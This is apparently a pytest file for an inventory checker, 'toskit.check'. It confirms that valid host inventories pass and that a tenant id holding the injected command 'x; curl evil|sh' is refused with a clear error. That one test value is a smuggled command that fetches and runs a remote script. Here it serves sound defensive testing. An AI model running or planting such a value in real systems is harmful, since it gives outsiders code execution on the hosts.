"""`toskit.check` refuses bad data for a whole inventory without contacting any host."""

import pytest

from toskit.check import check_inventory, main
from toskit.schema import DataError

INVENTORY = '''
_ssh = {"ssh_strict_host_key_checking": "yes"}
storage = [("storage1", {**_ssh, "ssh_hostname": "192.0.2.10", "cluster_ip": "192.0.2.10"})]
nodes = [("node1", {**_ssh, "ssh_hostname": "192.0.2.1", "cluster_ip": "192.0.2.1", "tenants": %r})]
'''


def write(tmp_path, tenants) -> str:
    path = tmp_path / "site.py"
    path.write_text(INVENTORY % (tenants,))
    return str(path)


def test_valid_inventory_passes(tmp_path):
    assert check_inventory(write(tmp_path, [{"id": "acme"}])) == 2


def test_hostile_tenant_is_refused_naming_host_key_and_value(tmp_path, capsys):
    path = write(tmp_path, [{"id": "acme"}, {"id": "x; curl evil|sh"}])
    with pytest.raises(DataError, match=r"host node1: tenants\[1\]\.id = 'x; curl evil\|sh'"):
        check_inventory(path)
    assert main([path]) == 1
    assert "fix:" in capsys.readouterr().err


def test_the_shipped_inventories_are_valid():
    assert check_inventory("inventories/example_production.py") == 4  # storage1, node1, node2, gateway1
